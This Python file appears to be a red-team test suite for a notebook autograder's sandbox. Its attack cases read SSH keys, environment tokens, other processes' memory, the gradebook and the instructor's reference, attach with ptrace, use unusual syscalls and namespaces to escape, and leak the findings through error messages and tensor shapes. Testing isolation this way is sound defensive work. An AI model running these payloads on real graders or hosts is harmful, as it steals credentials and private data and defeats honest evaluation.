"""Hidden tests, the reference, other students' work and the grader's secrets."""

import os

from attack import BOTH_WALLS, RIGHT, Submission, family

read = family("read_what_is_hidden")

_READ_PATHS = """
    def read_all(paths):
        for path in paths:
            try:
                with open(path, "rb") as file:
                    tell(file.read(20_000_000))
            except (OSError, ValueError):
                pass
"""


def _reads(s: Submission, paths: str) -> None:
    s.own_cell(_READ_PATHS)
    s.own_cell(f"import glob, os\nread_all({paths})")


@read
def source_notebook(s: Submission):
    """Opens the instructor's notebook in the course's folder."""
    _reads(s, 'glob.glob(COURSE + "/source/**", recursive=True)')


@read
def gradebook(s: Submission):
    """Reads the gradebook, which holds hidden tests and other students' names and points."""
    _reads(s, 'glob.glob(COURSE + "/*.db*")')


@read
def other_submissions(s: Submission):
    """Reads what other students handed in and what they were given back."""
    _reads(s, '[p for d in ("submitted", "autograded", "feedback") for p in glob.glob(COURSE + f"/{d}/*/*/*")]')


@read
def files_beside_the_course(s: Submission):
    """Reads files in the folder beside the course, and by ../.. from where it runs."""
    _reads(
        s,
        'glob.glob(BESIDE + "/*") + glob.glob("../*") + glob.glob("../../*") + glob.glob("../../../*")'
        ' + glob.glob("../../*/*/*.ipynb")',
    )


@read
def home_and_keys(s: Submission):
    """Reads the grader's home folder, the private key in it above all."""
    _reads(s, 'glob.glob(HOME + "/.*/*") + glob.glob(os.path.expanduser("~/.ssh/*"))')


@read
def other_temporary_files(s: Submission):
    """Searches the temporary folders for what the grading of others leaves there."""
    _reads(s, '[os.path.join(d, f) for t in ("/tmp", "/var/tmp") for d, _, fs in os.walk(t) for f in fs][:5000]')


@read(promised_by=BOTH_WALLS)
def other_shared_memory_files(s: Submission):
    """Reads the files that other processes keep in /dev/shm."""
    _reads(s, 'glob.glob("/dev/shm/*") + ["/dev/shm/attention101-other"]')


@read
def its_environment(s: Submission):
    """Reads the grader's tokens out of its environment, from os.environ and from /proc."""
    s.own_cell("tell(str(dict(os.environ)))")
    _reads(s, '["/proc/self/environ", "/proc/thread-self/environ", f"/proc/{os.getppid()}/environ", "/proc/1/environ"]')


@read
def environment_in_its_memory(s: Submission):
    """Looks on its own stack for the environment with which the process once started."""
    s.own_cell("""
        import re
        for line in open("/proc/self/maps"):
            if "[stack]" in line:
                low, high = (int(x, 16) for x in line.split()[0].split("-"))
                with open("/proc/self/mem", "rb") as memory:
                    memory.seek(low)
                    tell(memory.read(high - low))
    """)


@read
def command_lines_and_environments_of_all(s: Submission):
    """Reads command line, environment, working folder and root of every process that it can see."""
    _reads(
        s,
        '[p for f in ("environ", "cmdline", "cwd/gradebook.db", "cwd/source/attention/attention.ipynb",'
        ' "root/tmp/beside/secret.txt", "root/tmp/course/source/attention/attention.ipynb", "fd/*")'
        ' for p in glob.glob("/proc/[0-9]*/" + f)][:2000]',
    )


@read
def memory_of_the_grader(s: Submission):
    """Reads the memory of every process that it can find, by /proc and by process_vm_readv."""
    s.own_cell("""
        import ctypes, glob, os
        libc = ctypes.CDLL(None, use_errno=True)

        class Piece(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

        def regions(pid):
            for line in open(f"/proc/{pid}/maps"):
                words = line.split()
                low, high = (int(x, 16) for x in words[0].split("-"))
                if words[1].startswith("rw") and high - low < 1 << 28:
                    yield low, high - low

        pids = {os.getppid(), 1, BYSTANDER} | {int(p.split("/")[2]) for p in glob.glob("/proc/[0-9]*")}
        for pid in sorted(pids - {os.getpid()}):
            try:
                places = list(regions(pid))
            except OSError:
                places = []
            for low, length in places:
                try:
                    with open(f"/proc/{pid}/mem", "rb") as memory:
                        memory.seek(low)
                        tell(memory.read(length))
                except OSError:
                    buffer = ctypes.create_string_buffer(min(length, 1 << 24))
                    here, there = Piece(ctypes.addressof(buffer), len(buffer)), Piece(low, len(buffer))
                    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                        tell(buffer.raw)
    """)


@read
def traces_the_grader(s: Submission):
    """Attaches itself as a debugger to every process that it can name."""
    s.own_cell("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in {os.getppid(), BYSTANDER, *range(1, 60)} - {os.getpid()}:
            child = os.fork()
            if child == 0:
                seized = libc.ptrace(0x4206, pid, None, None) == 0  # PTRACE_SEIZE
                os._exit(7 if seized and pid != os.getpid() else 0)
            if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7:
                claim(f"traces process {pid}")
    """)


@read
def its_own_memory(s: Submission):
    """Searches all memory of its own process for what that held before the student's code began, at the end."""
    scan = """
        import glob
        def scan():
            for line in open("/proc/self/maps"):
                words = line.split()
                low, high = (int(x, 16) for x in words[0].split("-"))
                if "r" not in words[1] or high - low > 1 << 28 or "[v" in line:
                    continue
                try:
                    with open("/proc/self/mem", "rb") as memory:
                        memory.seek(low)
                        tell(memory.read(high - low))
                except (OSError, ValueError, OverflowError):
                    pass
    """
    s.own_cell(scan)
    s.own_cell("scan()", before=None)


@read
def all_python_objects(s: Submission):
    """Walks all objects, modules and cached source lines of its process for secrets, at the end of the notebook."""
    s.own_cell(
        """
        import gc, linecache, sys
        tell(str(linecache.cache))
        for found in gc.get_objects():
            if type(found) in (dict, list, tuple, set) and len(found) < 100_000:
                try:
                    for part in (found.values() if type(found) is dict else found):
                        if type(part) in (str, bytes):
                            tell(part)
                except RuntimeError:
                    pass
        """,
        before=None,
    )


@read
def history_of_the_notebook(s: Submission):
    """Prints the text of the test cells out of IPython's history."""
    s.own_cell(
        """
        tell(str(get_ipython().user_ns.get("In")))
        tell(str(get_ipython().history_manager.input_hist_raw))
        tell(str(globals()))
        """,
        before=None,
    )


@read
def inherited_files(s: Submission):
    """Reads from the start of every open file, and follows each one's name."""
    s.own_cell("""
        import fcntl, os, stat
        for number in range(1024):
            try:
                kind = os.fstat(number).st_mode
            except OSError:
                continue
            try:
                tell(os.readlink(f"/proc/self/fd/{number}"))
            except OSError:
                pass
            if stat.S_ISREG(kind):
                try:
                    tell(os.pread(number, 1 << 24, 0))
                except OSError:
                    pass
            if stat.S_ISDIR(kind):
                for name in ("gradebook.db", "source/attention/attention.ipynb", "../beside/secret.txt"):
                    try:
                        tell(os.read(os.open(name, os.O_RDONLY, dir_fd=number), 1 << 24))
                    except OSError:
                        pass
    """)


_WALK_FRAMES = """
    import inspect, sys, types

    def constants(code):
        for constant in code.co_consts:
            if isinstance(constant, types.CodeType):
                yield from constants(constant)
            else:
                yield str(constant)

    def look_around():
        found = []
        frame = sys._getframe(1)
        while frame is not None:
            found += constants(frame.f_code)
            for space in (dict(frame.f_locals), dict(frame.f_globals)):
                for value in space.values():
                    if isinstance(value, str):
                        found.append(value)
                    elif isinstance(value, types.FunctionType):
                        found += constants(value.__code__)
                        try:
                            found.append(inspect.getsource(value))
                        except (OSError, TypeError):
                            pass
            frame = frame.f_back
        return "\\n".join(found)
"""


@read
def frames_of_the_hidden_test(s: Submission):
    """Looks, in the call that a hidden test makes, up the stack for the test's text, and raises it as an error."""
    s.own_cell(_WALK_FRAMES)
    s.in_call("""
        seen = look_around()
        tell(seen)
        if secrets_in(seen):
            raise ValueError(" ".join(secrets_in(seen)))
        result = Q @ K.transpose(-2, -1)
    """)


_HEAD_THAT_LOOKS = """
    import gc, inspect, os, types

    def text_of(function):
        texts = [str(function.__doc__), str(function.__code__.co_consts)]
        try:
            texts.append(inspect.getsource(function))
        except (OSError, TypeError):
            pass
        try:
            texts.append(open(function.__code__.co_filename).read())
        except OSError:
            pass
        return " ".join(texts)

    def seen_in(names):
        return " ".join(text_of(names[n]) for n in
                        ("project_qkv", "attention_scores", "attention_weights", "aggregate_values")
                        if isinstance(names.get(n), types.FunctionType) and not hasattr(names[n], "mine"))
"""


@read
def reference_that_a_head_is_tried_over(s: Submission):
    """A head takes the correct functions apart that it is tried over, and puts their text into an error message."""
    s.own_cell(_HEAD_THAT_LOOKS)
    s.answer(
        "attention_head",
        """
        class AttentionHead(nn.Module):
            def __init__(self, d_model, d_head):
                super().__init__()
                found = seen_in(globals())
                tell(found)
                if secrets_in(found):
                    raise ValueError(" ".join(secrets_in(found)))
        """,
    )
    s.after_answers("{name}.mine = True")


@read
def reference_through_a_pipe_made_before(s: Submission):
    """A head sends the correct functions through a pipe, made beforehand, to a thread that stayed behind."""
    s.own_cell(_HEAD_THAT_LOOKS)
    s.own_cell("""
        import os, threading, time
        receiving, sending = os.pipe()

        def receive():
            while True:
                tell(os.read(receiving, 65536))
        threading.Thread(target=receive, daemon=True).start()
    """)
    s.answer(
        "attention_head",
        """
        class AttentionHead(nn.Module):
            def __init__(self, d_model, d_head):
                super().__init__()
                for found in secrets_in(seen_in(globals())):
                    os.write(sending, found.encode())
                    time.sleep(0.5)
                raise ValueError("no head today")
        """,
    )
    s.after_answers("{name}.mine = True")
    s.own_cell("time.sleep(2)", before=None)


def _right_but_for_scores(s: Submission) -> None:
    for answer in ("project_qkv", "attention_weights", "aggregate_values"):
        s.answer(answer, RIGHT[answer])
    s.after_answers("{name}.mine = True")


@read(deserved=3)
def reference_in_a_shape(s: Submission):
    """A head over correct functions returns their text as an empty tensor's sizes, which a message quotes."""
    s.own_cell(_HEAD_THAT_LOOKS)
    _right_but_for_scores(s)
    s.answer(
        "attention_head",
        """
        calls = []

        class AttentionHead(nn.Module):
            def __init__(self, d_model, d_head):
                super().__init__()
                for name in ("W_q", "W_k", "W_v"):
                    setattr(self, name, nn.Linear(d_model, d_head, bias=False))
            def forward(self, x, mask=None):
                found = " ".join(secrets_in(seen_in(globals()))).encode()
                calls.append(x)
                text = found[7 * len(calls) - 7 : 7 * len(calls)]
                return torch.empty(0, *text), torch.empty(0, *text)
        """,
    )


@read(deserved=3)
def reference_in_names(s: Submission):
    """A head over correct functions uses their text as the name of an error's class, of a layer and of a parameter."""
    s.own_cell(_HEAD_THAT_LOOKS)
    _right_but_for_scores(s)
    s.answer(
        "attention_head",
        """
        class AttentionHead(nn.Module):
            def __init__(self, d_model, d_head):
                super().__init__()
                for name in ("W_q", "W_k", "W_v"):
                    setattr(self, name, nn.Linear(d_model, d_head, bias=False))
                self.name = "_".join(secrets_in(seen_in(globals()))).replace("-", "_")[:55]
                if self.name:
                    self.register_parameter(self.name, nn.Parameter(torch.ones(1)))
            def forward(self, x, mask=None):
                if self.name and len(x) > 3:
                    raise type(self.name, (Exception,), {})(self.name)
                kind = type(self.name or "nothing", (), {})
                return kind(), kind()
        """,
    )


@read
def programs_and_magics(s: Submission):
    """Reads by cat, find and grep, by a shell, and by IPython's magics, instead of by Python itself."""
    s.own_cell("""
        import subprocess
        for command in (f"cat {COURSE}/source/attention/attention.ipynb", f"grep -ra SECRET {COURSE} {BESIDE} {HOME}",
                        f"find {COURSE} -name '*.ipynb' -exec cat {{}} +", "env", "cat /proc/*/environ"):
            done = subprocess.run(["sh", "-c", command], capture_output=True, timeout=4)
            tell(done.stdout)
        shell = get_ipython()
        for line in (f"cat {COURSE}/source/attention/attention.ipynb", f"cat {BESIDE}/secret.txt"):
            tell(str(shell.getoutput(line)))
    """)
    s.own_cell("get_ipython().run_line_magic('load', COURSE + '/source/attention/attention.ipynb')")
    s.own_cell("get_ipython().run_line_magic('run', COURSE + '/source/attention/attention.ipynb')")


@read
def unusual_system_calls(s: Submission):
    """Opens files by openat2, by handle, by the 32-bit interface's sendfile and by io_uring instead of open."""
    s.own_cell("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        paths = [COURSE + "/source/attention/attention.ipynb", BESIDE + "/secret.txt"]
        how = (ctypes.c_uint64 * 3)(0, 0, 0)
        for path in paths:
            number = libc.syscall(437, -100, path.encode(), ctypes.byref(how), 24)  # openat2
            if number >= 0:
                tell(os.read(number, 1 << 24))
            handle, mount = ctypes.create_string_buffer(136), ctypes.c_int()
            ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
            if libc.syscall(303, -100, path.encode(), handle, ctypes.byref(mount), 0x400) == 0:  # name_to_handle_at
                root = os.open("/", os.O_RDONLY)
                number = libc.syscall(304, root, handle, 0)  # open_by_handle_at
                if number >= 0:
                    tell(os.read(number, 1 << 24))
            tree = libc.syscall(428, -100, path.encode(), 1)  # open_tree, cloned
            if tree >= 0:
                claim("cloned a mount")
        ring = libc.syscall(425, 4, ctypes.create_string_buffer(240))  # io_uring_setup
        if ring >= 0:
            claim("has an io_uring")
    """)


@read
def new_namespaces(s: Submission):
    """Makes namespaces of its own, becomes root in them and mounts its way to other files."""
    s.own_cell("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        child = os.fork()
        if child == 0:
            uid = os.getuid()
            if libc.unshare(0x10000000 | 0x20000) == 0:  # user and mount
                for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1")):
                    try:
                        open(f"/proc/self/{name}", "w").write(text)
                    except OSError:
                        pass
                open("in-a-namespace", "w").close()
                if libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) == 0:
                    open("has-mounted", "w").close()
                try:
                    os.chroot("/proc/1/root")
                    tell(open(BESIDE + "/secret.txt").read())
                except OSError:
                    pass
            os._exit(0)
        os.waitpid(child, 0)
        for mark in ("in-a-namespace", "has-mounted"):
            if os.path.exists(mark):
                claim("is " + mark)
    """)


@read
def links_beside_the_notebook(s: Submission):
    """Hands in links to the instructor's notebook and to secrets, and reads them or has them copied."""
    for name, path in (
        ("notes.txt", s.course / "source/attention/attention.ipynb"),
        ("secret.txt", "/tmp/beside/secret.txt"),
        ("picture.png", "/tmp/beside/secret.txt"),
        ("up", "../../.."),
    ):
        os.symlink(path, s.folder / name)
    _reads(s, 'glob.glob("*") + glob.glob("up/*/*/*")')


@read
def pictures_of_secret_files(s: Submission):
    """Asks, in Markdown and HTML, for secret files to be put into the page as pictures and frames."""
    for path in ("/tmp/beside/secret.txt", "../../../source/attention/attention.ipynb"):
        cell = s.own_cell(
            f'![x]({path}) ![x](file://{path}) <img src="{path}"> <iframe src="file://{path}"></iframe>\n\n'
            f'{{% include "{path}" %}} {{{{ open("{path}").read() }}}}'
        )
        cell.cell_type = "markdown"
        for key in ("outputs", "execution_count"):
            cell.pop(key)
    s.own_cell("""
        from IPython.display import Image, display
        for path in (BESIDE + "/secret.txt", COURSE + "/source/attention/attention.ipynb"):
            display({"text/html": f'<img src="{path}"><object data="{path}"></object>',
                     "text/latex": f"\\\\input{{{path}}}"}, raw=True)
            try:
                display(Image(filename=path, format="png"))
            except Exception as error:
                print(type(error).__name__)
    """)


@read
def shared_memory_segments(s: Submission):
    """Attaches the System V shared memory of other processes, whatever its key."""
    s.own_cell("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
        for number in range(200):
            place = libc.shmat(number, None, 0o10000)
            if place not in (None, ctypes.c_void_p(-1).value):
                tell(ctypes.string_at(place, 4096))
    """)
